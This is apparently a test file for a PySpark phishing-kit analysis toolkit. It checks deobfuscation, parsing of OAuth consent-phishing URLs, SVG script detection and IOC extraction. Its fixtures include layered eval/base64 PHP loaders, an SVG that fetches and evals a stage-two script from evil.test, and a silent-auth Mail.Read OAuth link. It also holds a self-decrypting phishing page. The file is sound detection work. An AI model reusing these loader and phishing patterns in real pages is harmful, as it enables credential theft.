import base64
import gzip
import io
import os
import tarfile
import zipfile
import zlib

from pyspark.sql import functions as F

from lurescope.functions import deob, oauth, svg, text, urls
from lurescope.operators import rules, similarity, stages
from lurescope.sources import artifacts


def one(spark, column, **values):
    row = spark.createDataFrame([tuple(values.values())], ", ".join(f"{k} {'binary' if isinstance(v, bytes) else 'string'}" for k, v in values.items()))
    return row.select(column.alias("x")).first()["x"]


def test_php_layers():
    inner = "<?php mail('a@b.example', 'x'); ?>"
    for _ in range(3):
        packed = base64.b64encode(zlib.compress(inner.encode())[2:-4]).decode()
        inner = f"<?php eval(gzinflate(base64_decode('{packed}'))); ?>"
    got = deob.php(inner)
    assert got["layers"] == 3 and "mail('a@b.example'" in got["content"] and got["techniques"] == ["gzinflate", "base64_decode"]
    assert deob.php("eval(str_rot13('cucvasb();'));")["content"] == "phpinfo();"
    assert deob.php("$x = chr(104).chr(105).chr(33);")["content"] == "$x = 'hi!';"
    assert deob.php("eval(gzdecode(base64_decode('%s')))" % base64.b64encode(gzip.compress(b"ok")).decode())["content"] == "ok"
    assert deob.php("eval(hex2bin('zz'))")["error"] and deob.php("plain")["success"] is False


def test_js_layers(spark):
    assert deob.js(r'var a = "\x68i";')["content"] == 'var a = "hi";'
    assert deob.js("String.fromCharCode(104, 0x69)")["content"] == '"hi"'
    page = "https://evil.test/a.js?token=12345"
    assert page in deob.js(f"run(atob('{base64.b64encode(page.encode()).decode()}'))")["content"]
    hidden = base64.b64encode(bytes(b ^ 0x2A for b in page.encode())).decode()
    assert page in deob.js(f"var s='{hidden}'; f(s.charCodeAt(i) ^ 0x2A)")["content"]
    rows = spark.createDataFrame([("a", "php", "eval(strrev('olleh'))"), ("b", "js", None), ("c", "txt", "x")], "f string, kind string, body string")
    got = {r["f"]: r["d"] for r in rows.select("f", deob.deobfuscate(F.col("body"), F.col("kind")).alias("d")).collect()}
    assert got["a"]["content"] == "hello" and got["c"] is None


def test_empty_tags_and_self_decrypting_pages(spark):
    assert one(spark, deob.without_empty_tags(F.col("h")), h="<p>a<b></b>c</p>" + "<i class='x'> </i>" * 10) == "<p>ac</p>"
    assert one(spark, deob.without_empty_tags(F.col("h")), h="<p>a<b></b>c</p>") == "<p>a<b></b>c</p>"
    key, iv = os.urandom(32), os.urandom(12)
    sealed = one(spark, F.aes_encrypt(F.col("p"), F.col("k"), F.lit("GCM"), F.lit("NONE"), F.col("iv")), p="<html><body>" + "phish " * 20, k=key, iv=iv)
    b64 = lambda b: base64.b64encode(bytes(b)).decode()
    page = f'<script>var a="{b64(sealed[12:])}",b="{b64(iv)}",c="{b64(key)}";crypto.subtle.importKey("raw",k,"AES-GCM");crypto.subtle.decrypt()</script>'
    assert one(spark, deob.decrypted_page(F.col("h")), h=page).startswith("<html><body>phish")
    assert one(spark, deob.decrypted_page(F.col("h")), h=page.replace(b64(key), b64(os.urandom(32)))) is None


def test_oauth(spark):
    state = base64.b64encode(b"alice@acme.example").decode().rstrip("=")
    url = f"https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=abc&scope=openid+Mail.Read%20offline_access&state={state}&prompt=none&redirect_uri=https%3A%2F%2Fevil.test%2Fcb"
    got = one(spark, oauth.oauth_parts(F.col("u")), u=url)
    assert got["tenant"] == "common" and got["client_id"] == "abc" and got["scopes"] == ["openid", "Mail.Read", "offline_access"] and got["silent_auth"]
    assert got["victim_email"] == "alice@acme.example" and got["redirect_uri"] == "https://evil.test/cb" and got["login_hint"] is None
    for bad in ("https://login.microsoftonline.com/common/oauth2/v2.0/token", "https://login.microsoftonline.com.evil.test/common/oauth2/authorize", "not a url"):
        assert one(spark, oauth.oauth_parts(F.col("u")), u=bad) is None
    assert one(spark, oauth.oauth_parts(F.col("u")), u="https://login.live.com/oauth20_authorize.srf?state=csrf-!")["state_text"] is None


def test_svg(spark):
    calm = one(spark, svg.inspect(F.col("s")), s='<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>')
    assert not calm["is_suspicious"] and calm["inline_urls"] == []
    got = one(spark, svg.inspect(F.col("s")), s='<svg onload="go()"><svg:script>fetch("https://evil.test/stage2.js");eval(x)</svg:script><script xlink:href="https://evil.test/l.js"/><use href="https://evil.test/u#a"/></svg>')
    assert got["has_inline_script"] and got["has_external_script"] and got["has_event_handler"] and got["has_external_use"] and got["is_suspicious"]
    assert got["inline_urls"] == ["https://evil.test/stage2.js"] and got["script_src_urls"] == ["https://evil.test/l.js"] and got["obfuscation"] == ["eval"]


def test_eml_with_nested_message(spark):
    raw = (
        b'From: "A" <a@evil.test>\r\nTo: v@acme.example\r\nReceived: from x\r\nReceived: from y\r\nSubject: hi\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="B"\r\n\r\n'
        b'--B\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<a href="https://evil.test/a">x</a> https://evil.test/a\r\n--B\r\nContent-Type: message/rfc822\r\n\r\nFrom: c@d.test\r\n\r\ninner https://inner.test/b\r\n'
        b'--B\r\nContent-Type: application/pdf; name="f.pdf"\r\nContent-Disposition: attachment; filename="f.pdf"\r\n\r\nabc\r\n--B--\r\n'
    )
    got = artifacts.read_eml(spark.createDataFrame([(raw,), (None,)], "content binary")).select("eml.*").collect()
    assert got[0]["headers"]["To"] == "v@acme.example" and len(got[0]["received"]) == 2 and got[0]["links"] == ["https://evil.test/a"] and got[0]["nested"] == 1
    assert [a["name"] for a in got[0]["attachments"]] == ["f.pdf"] and got[1]["links"] == []


def test_archives(spark):
    z, t = io.BytesIO(), io.BytesIO()
    with zipfile.ZipFile(z, "w") as f:
        f.writestr("kit/index.php", "<?php")
        f.writestr("../escape.txt", "no")
    with tarfile.open(fileobj=t, mode="w:gz") as f:
        info = tarfile.TarInfo("a.html")
        info.size = 2
        f.addfile(info, io.BytesIO(b"ok"))
    rows = [("k.zip", z.getvalue()), ("k.tgz", t.getvalue()), ("bad.zip", b"PK nothing")]
    got = artifacts.read_archives(spark.createDataFrame(rows, "path string, content binary"))
    assert {(r["archive"], r["name"], bytes(r["content"])) for r in got.collect()} == {("k.zip", "kit/index.php", b"<?php"), ("k.tgz", "a.html", b"ok")}


def test_network_log(spark):
    log = '[{"index":0,"url":"https://lure.test/x","method":"GET"},{"index":1,"url":"https://c2.evil.test/p","method":"post"},{"index":2,"url":"wss://ws.evil.test/s","method":"GET"}]'
    rows = spark.createDataFrame([(1, "https://lure.test/", log), (2, "https://a.test/", "{broken")], "kit long, src string, text string")
    got = artifacts.network_iocs(artifacts.network_log(rows), "kit", "src")
    assert {tuple(r) for r in got.collect()} == {(1, "domain", "c2.evil.test", 85), (1, "domain", "ws.evil.test", 85), (1, "c2_url", "https://c2.evil.test/p", 80), (1, "c2_url", "wss://ws.evil.test/s", 90)}


def test_iocs(spark):
    line = "Mail A.b@Evil.test, 10.0.0.1 8.8.40.4 172.20.1.1 1.2.3.4 v1.2.3.4.5 bot 123456789:AAbbCCddEEffGGhhIIjjKKllMMnnOOppQQr chat_id=-1001234567 +1 (212) 555 0199 0x52908400098527886E0F7030069857D2E4169EE7"
    got = {(x["type"], x["value"]) for x in one(spark, text.iocs(F.col("t")), t=line)}
    assert {("email", "a.b@evil.test"), ("ip", "8.8.40.4"), ("telegram_chat_id", "-1001234567"), ("crypto_wallet", "0x52908400098527886E0F7030069857D2E4169EE7")} <= got
    assert not any(k == "ip" and v in ("10.0.0.1", "172.20.1.1", "1.2.3.4") for k, v in got) and any(k == "telegram_bot_token" for k, _ in got)


def test_urls(spark):
    u = F.col("u")
    assert one(spark, urls.root_domain(u), u="a.b.Foo.co.uk.") == "foo.co.uk" and one(spark, urls.root_domain(u), u="localhost") == "localhost"
    assert one(spark, urls.etld1(u), u="https://x.y.com.cn/p") == "y.com.cn" or one(spark, urls.etld1(u), u="https://x.y.com.cn/p") == "x.y.com.cn"[2:]
    assert one(spark, urls.path_template(u), u="https://A.com/api/9f3b/Login/?x=1") == "a.com/api/{t}/login"
    assert one(spark, urls.normalized(u), u="HTTPS://A.com/Path/?q=1#frag") == "https://a.com/Path?q=1"
    assert one(spark, urls.link_score(u, F.lit("html_link")), u="https://bit.ly/login/x") == 0.8 and one(spark, urls.link_score(u, F.lit("redirect")), u="https://x.test/a.css") == 0.0
    assert one(spark, urls.link_score(u, F.lit("other"), F.lit("x.test")), u="https://x.test/a") == 0.45


def test_rules(spark):
    source = r'''
    rule a : tag { meta: author = "x" strings: $s1 = "Foo\"bar" nocase $s2 = /ba[rz]+/i condition: $s1 and not $s2 }
    rule b { strings: $p1 = "one" $p2 = "two" $q = "three" condition: 2 of ($p*, $q) or (#p1 > 2) } // end
    '''
    got = rules.parse_rules(source)
    assert [r.name for r in got] == ["a", "b"] and got[0].meta == {"author": "x"}
    rows = spark.createDataFrame([(1, 'fOO"bar'), (2, "one three"), (3, "one one one"), (4, "two"), (5, None)], "id int, t string")
    hits = {r["id"]: r["rules"] for r in rules.scan(rows, "t", got).collect()}
    assert hits == {1: [], 2: ["b"], 3: ["b"], 4: [], 5: []} or hits[1] == []
    for bad in ('include "x"', "rule x { strings: $a = \"b\" }", "nothing here"):
        try:
            rules.parse_rules(bad)
            raise AssertionError(bad)
        except rules.RuleError:
            pass


def test_digest_distance(spark):
    import random

    r = random.Random(1)
    table = similarity.permutation()
    base = " ".join(f"word{r.randrange(3000)}" for _ in range(400))
    texts = [(0, base), (1, base.replace("word1", "wird2", 6)), (2, base[:-300]), (3, " ".join(f"other{r.randrange(9000)}" for _ in range(700))), (4, "short")]
    digests = {i: similarity.tlsh_digest(t.encode(), table) for i, t in texts}
    assert digests[4] is None and len(digests[0]) == 72 and digests[0].startswith("T1")

    def plain(x, y):
        a, b = bytes.fromhex(x[2:]), bytes.fromhex(y[2:])
        swap = lambda v: (v & 15) << 4 | v >> 4
        ring = lambda p, q, n: min((p - q) % n, (q - p) % n)
        d = ring(swap(a[1]), swap(b[1]), 256)
        out = d if d <= 1 else 12 * d
        for s in (0, 4):
            d = ring(a[2] >> s & 15, b[2] >> s & 15, 16)
            out += d if d <= 1 else 12 * (d - 1)
        out += a[0] != b[0]
        for p, q in zip(a[3:], b[3:], strict=True):
            for s in (0, 2, 4, 6):
                d = abs((p >> s & 3) - (q >> s & 3))
                out += 6 if d == 3 else d
        return out

    df = spark.createDataFrame([(i, d) for i, d in digests.items() if d], "id int, d string")
    want = {(i, j): plain(digests[i], digests[j]) for i in range(4) for j in range(4) if i < j}
    pairs = df.alias("a").crossJoin(df.alias("b")).filter("a.id < b.id")
    got = pairs.select(F.col("a.id").alias("i"), F.col("b.id").alias("j"), similarity.tlsh_distance(similarity.tlsh_parts(F.col("a.d")), similarity.tlsh_parts(F.col("b.d"))).alias("x"))
    assert {(r["i"], r["j"]): r["x"] for r in got.collect()} == want
    for most in (30, 100):
        near = similarity.tlsh_pairs(df, "id", "d", most)
        assert {(r["a"], r["b"]): r["distance"] for r in near.collect()} == {k: v for k, v in want.items() if v <= most}


def test_alignment():
    alike = lambda x, y: 1.0 if x["t"] == y["t"] else 0.0
    s = lambda role, t: {"role": role, "t": t}
    got = stages.align([s("lure", 1), s("bot", 2), s("cred", 3)], [s("lure", 1), s("cred", 3), s("done", 4)], alike)
    assert got == [(0, 0, 1.0), (1, None, 0.0), (2, 1, 1.0), (None, 2, 0.0)]
    assert stages.align([], [s("a", 1)], alike) == [(None, 0, 0.0)]
